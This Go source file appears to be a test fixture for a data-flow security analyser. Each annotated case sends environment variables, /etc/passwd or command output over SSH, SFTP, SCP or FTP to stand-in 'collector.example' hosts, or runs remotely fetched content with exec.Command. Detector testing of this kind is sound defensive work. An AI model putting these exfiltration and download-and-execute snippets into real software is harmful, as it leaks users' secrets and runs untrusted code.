// SSH, SFTP, SCP and FTP.
package models

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strings"

	scp "github.com/bramvdbogaerde/go-scp"
	"github.com/jlaffaye/ftp"
	"github.com/pkg/sftp"
	"golang.org/x/crypto/ssh"
)

const U = "https://collector.example/u?"

func dialled() {
	c, _ := ssh.Dial("tcp", "ssh.collector.example:22", nil) //~ capability(NETWORK), endpoint("ssh.collector.example:22")
	s, _ := c.NewSession()
	s.Run("echo " + os.Getenv("T")) //~ source(ENVIRONMENT) f1, sink(egress.ssh) f1, finding(traced) f1
}

func dialledConstant() {
	c, _ := ssh.Dial("tcp", "ssh.collector.example:22", nil) //~ ok
	s, _ := c.NewSession()
	s.Run("id") //~ ok
}

func made(conn ssh.Conn) {
	s, _ := ssh.NewClient(conn, nil, nil).NewSession() //~ capability(NETWORK)
	s.Run("echo " + os.Getenv("T")) //~ source(ENVIRONMENT) f3, sink(egress.ssh) f3, finding(traced) f3
}

func madeConstant(conn ssh.Conn) {
	s, _ := ssh.NewClient(conn, nil, nil).NewSession() //~ ok
	s.Run("id")
}

func session(c *ssh.Client) {
	s, _ := c.NewSession() //~ capability(NETWORK)
	s.Run("echo " + os.Getenv("T")) //~ source(ENVIRONMENT) f5, sink(egress.ssh) f5, finding(traced) f5
}

func sessionConstant(c *ssh.Client) {
	s, _ := c.NewSession() //~ ok
	s.Run("id")
}

func tunnel(c *ssh.Client) {
	conn, _ := c.Dial("tcp", "db:5432") //~ capability(NETWORK)
	conn.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f7, sink(egress.socket) f7, finding(traced) f7
}

func tunnelConstant(c *ssh.Client) {
	conn, _ := c.Dial("tcp", "db:5432") //~ ok
	conn.Write([]byte("ping"))
}

func command(s *ssh.Session) {
	s.Run("echo " + os.Getenv("T")) //~ source(ENVIRONMENT) f9, sink(egress.ssh) f9, finding(traced) f9, capability(NETWORK)
}

func input(s *ssh.Session) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f10
	s.Stdin = f
	s.Run("cat > passwd") //~ sink(egress.ssh) f10, finding(traced) f10
}

func commandConstant(s *ssh.Session) {
	s.Run("id") //~ ok
}

func output(s *ssh.Session) {
	b, _ := s.Output("next") //~ source(NETWORK) f12, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f12, finding(traced) f12
}

func outputUnused(s *ssh.Session) {
	s.Output("next") //~ ok
}

func variable(s *ssh.Session) {
	s.Setenv("T", os.Getenv("T")) //~ source(ENVIRONMENT) f14, sink(egress.ssh) f14, finding(traced) f14
}

func variableConstant(s *ssh.Session) {
	s.Setenv("LANG", "C") //~ ok
}

func inputPipe(s *ssh.Session) {
	w, _ := s.StdinPipe()
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f16, sink(egress.ssh) f16, finding(traced) f16
}

func inputPipeConstant(s *ssh.Session) {
	w, _ := s.StdinPipe() //~ ok
	w.Write([]byte("exit"))
}

func outputPipe(s *ssh.Session) {
	r, _ := s.StdoutPipe() //~ source(NETWORK) f18
	b, _ := io.ReadAll(r)
	exec.Command(string(b)).Run() //~ sink(exec.command) f18, finding(traced) f18
}

func outputPipeUnused(s *ssh.Session) {
	s.StdoutPipe() //~ ok
}

func written(c ssh.Channel) {
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f20, sink(egress.ssh) f20, finding(traced) f20, capability(NETWORK)
}

func writtenConstant(c ssh.Channel) {
	c.Write([]byte("ping")) //~ ok
}

func channelRead(c ssh.Channel) {
	b := make([]byte, 64)
	c.Read(b) //~ source(NETWORK) f22, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f22, finding(traced) f22
}

func channelReadUnused(c ssh.Channel) {
	c.Read(make([]byte, 64)) //~ ok
}

func channelRequest(c ssh.Channel) {
	c.SendRequest("exec", true, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f24, sink(egress.ssh) f24, finding(traced) f24, capability(NETWORK)
}

func channelRequestConstant(c ssh.Channel) {
	c.SendRequest("shell", true, nil) //~ ok
}

func transfer(c *ssh.Client) {
	t, _ := sftp.NewClient(c) //~ capability(NETWORK)
	w, _ := t.Create("/in/t")
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f26, sink(egress.ssh) f26, finding(traced) f26
}

func transferConstant(c *ssh.Client) {
	t, _ := sftp.NewClient(c) //~ ok
	w, _ := t.Create("/in/t")
	w.Write([]byte("ping")) //~ ok
}

func remoteFile(t *sftp.Client) {
	w, _ := t.Create("/in/t") //~ capability(NETWORK)
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f28
	io.Copy(w, f) //~ sink(egress.ssh) f28, finding(traced) f28
}

func remoteFileConstant(t *sftp.Client) {
	w, _ := t.Create("/in/t") //~ ok
	io.Copy(w, strings.NewReader("ping")) //~ ok
}

func remoteRead(t *sftp.Client) {
	r, _ := t.Open("/out/run.sh") //~ source(NETWORK) f30, capability(NETWORK)
	b, _ := io.ReadAll(r)
	exec.Command(string(b)).Run() //~ sink(exec.command) f30, finding(traced) f30
}

func remoteReadUnused(t *sftp.Client) {
	t.Open("/out/run.sh") //~ ok
}

func securelyCopied(c *scp.Client, ctx context.Context) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f32
	c.CopyFile(ctx, f, "/in/passwd", "0600") //~ sink(egress.ssh) f32, finding(traced) f32, capability(NETWORK)
}

func securelyCopiedConstant(c *scp.Client, ctx context.Context) {
	c.CopyFile(ctx, strings.NewReader("ping"), "/in/a", "0600") //~ ok
}

func ftpDialled() {
	c, _ := ftp.Dial("ftp.collector.example:21") //~ capability(NETWORK), endpoint("ftp.collector.example:21")
	c.Stor("t", strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f34, sink(egress.ftp) f34, finding(traced) f34
}

func ftpDialledConstant() {
	c, _ := ftp.Dial("ftp.collector.example:21") //~ ok
	c.Stor("t", strings.NewReader("ping")) //~ ok
}

func stored(c *ftp.ServerConn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f36
	c.Stor("passwd", f) //~ sink(egress.ftp) f36, finding(traced) f36, capability(NETWORK)
}

func storedConstant(c *ftp.ServerConn) {
	c.Stor("a", strings.NewReader("ping")) //~ ok
}

func directory(c *ftp.ServerConn) {
	c.MakeDir(os.Getenv("T")) //~ source(ENVIRONMENT) f38, sink(egress.ftp) f38, finding(traced) f38, capability(NETWORK)
}

func directoryConstant(c *ftp.ServerConn) {
	c.MakeDir("in") //~ ok
}

func retrieved(c *ftp.ServerConn) {
	r, _ := c.Retr("run.sh") //~ source(NETWORK) f40, capability(NETWORK)
	b, _ := io.ReadAll(r)
	exec.Command(string(b)).Run() //~ sink(exec.command) f40, finding(traced) f40
}

func retrievedUnused(c *ftp.ServerConn) {
	c.Retr("run.sh") //~ ok
}

func copiedToChannel(c ssh.Channel) {
	io.Copy(c, strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f42, sink(egress.ssh) f42, finding(traced) f42, capability(NETWORK)
}

func copiedToChannelConstant(c ssh.Channel) {
	io.Copy(c, strings.NewReader("ping")) //~ ok
}

func printedToChannel(c ssh.Channel) {
	out, _ := exec.Command("id").Output() //~ source(COMMAND_OUTPUT) f43
	fmt.Fprintf(c, "%s", out) //~ sink(egress.ssh) f43, finding(traced) f43
	fmt.Fprintf(c, "%d", len(out)) //~ ok
}
